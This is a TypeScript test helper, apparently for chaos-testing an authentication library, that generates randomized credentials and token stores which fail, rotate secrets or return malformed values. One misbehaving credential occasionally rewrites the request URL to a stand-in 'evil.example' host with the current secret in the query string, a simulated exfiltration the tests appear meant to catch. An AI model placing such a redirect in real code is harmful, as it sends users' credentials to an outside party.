import {
  apiKeyHeader,
  apiKeyQuery,
  basic,
  bearer,
  clientCredentials,
  type Credential,
  memoryTokenStore,
  personalAccessToken,
  type Secret,
  sharedTokens,
  type Token,
  type TokenSharing,
} from '@syncline/auth';
import type { Transport } from '../../../src/index.ts';
import { unreliable, type World } from './misbehave.ts';

const key = new Uint8Array(32).fill(7);
const nothings = [undefined, null, 7, '', 'two\nlines', {}, [], Number.NaN];

/** A credential of any kind. Its functions sometimes fail, and its secrets change. */
export function anyCredential(world: World, transport: Transport, onEvent: (event: unknown) => void): Credential {
  const { dice } = world;
  const rotates = dice.chance(0.6);
  const secret = (): Secret => {
    let current = world.newSecret();
    if (!rotates) return current;
    return unreliable(world, 0.04, nothings, () => {
      if (dice.chance(0.3)) current = world.newSecret();
      return current;
    });
  };
  const kinds: Record<string, () => Credential> = {
    basic: () => basic({ username: 'ada', password: secret() }),
    apiKeyHeader: () => apiKeyHeader({ name: 'x-acme-authtoken', value: secret() }),
    apiKeyQuery: () => apiKeyQuery({ value: secret() }),
    personalAccessToken: () => personalAccessToken({ email: 'ada@example.com', token: secret() }),
    bearer: () => bearer(secret()),
    clientCredentials: () =>
      clientCredentials({
        authUrl: 'https://auth.example',
        clientId: 'service account',
        clientSecret: secret(),
        clientAuthentication: dice.pick(['client_secret_post', 'client_secret_basic', undefined]),
        tokenStore: dice.pick([undefined, () => ownSharing(world), () => fleet(world)])?.(),
        fetch: dice.chance(0.3) ? transport : undefined,
        timeout: dice.pick([100, 5_000, undefined]),
        deadline: dice.pick([300, 20_000, undefined]),
        onEvent,
        clock: world.time.clock,
        random: unreliable(world, 0.002, [2, -1, Number.NaN, '0'], () => dice.next()),
      }),
    own: () => ownCredential(world),
  };
  const weights = { basic: 1, apiKeyHeader: 1, apiKeyQuery: 1, personalAccessToken: 1, bearer: 1, own: 1 };
  return kinds[dice.weighted({ ...weights, clientCredentials: 6 })]!();
}

/** A program's own credential, in which every function sometimes fails. */
function ownCredential(world: World): Credential {
  const { dice } = world;
  let current = world.newSecret();
  const apply: Credential['apply'] = (request) => {
    // This may run late, after the key has changed, so the call has to learn the key in this request.
    request.addSecrets?.([current]);
    request.headers['x-own-key'] = current;
    if (!world.isCalm && dice.chance(0.01)) request.headers['x-lie'] = dice.pick<never>([7, 'a\nb', null] as never[]);
    if (!world.isCalm && dice.chance(0.01)) request.url = `https://evil.example/?${current}`;
  };
  const onUnauthorized = (): boolean => {
    current = world.newSecret();
    return dice.chance(0.7);
  };
  const failing = unreliable(world, 0.05, nothings, apply);
  return {
    scheme: 'own',
    apply: (request) => {
      // Even if `apply` fails, the call must know the secret.
      request.addSecrets?.([current]);
      return failing(request);
    },
    onUnauthorized: unreliable(world, 0.1, nothings, onUnauthorized),
    scrub: unreliable(world, 0.1, nothings, (text: string) => text.replaceAll(current, '[redacted]')),
  };
}

const lyingTokens = [undefined, null, 7, {}, { value: 7 }, { value: '' }, { value: 'a\nb', endsAt: Number.NaN }];

function ownSharing(world: World): TokenSharing {
  let kept: Token | undefined;
  return {
    obtain: unreliable(world, 0.1, lyingTokens, async ({ refused, requestToken, clock }) => {
      if (kept !== undefined && kept.value !== refused && kept.endsAt > clock.now()) return kept;
      return (kept = await requestToken());
    }),
  };
}

/** A token store that several processes share and that sometimes fails. */
function fleet(world: World): TokenSharing {
  const { time, dice } = world;
  const store = memoryTokenStore(time.clock);
  const lies = [undefined, 7, { value: 7, remainingMs: 5 }, { value: 'x', remainingMs: Number.NaN }];
  return sharedTokens({
    key,
    leaseMs: dice.pick([500, 30_000]),
    storeTimeout: dice.pick([50, 1_000]),
    store: {
      get: unreliable(world, 0.08, lies, (name) => store.get(name)),
      set: unreliable(world, 0.08, lies, (name, value, lifetime) => store.set(name, value, lifetime)),
      lock: unreliable(world, 0.08, [...lies, async () => {}], async (name, lease) => {
        const release = await store.lock(name, lease);
        return release && unreliable(world, 0.1, lies, release);
      }),
    },
  });
}
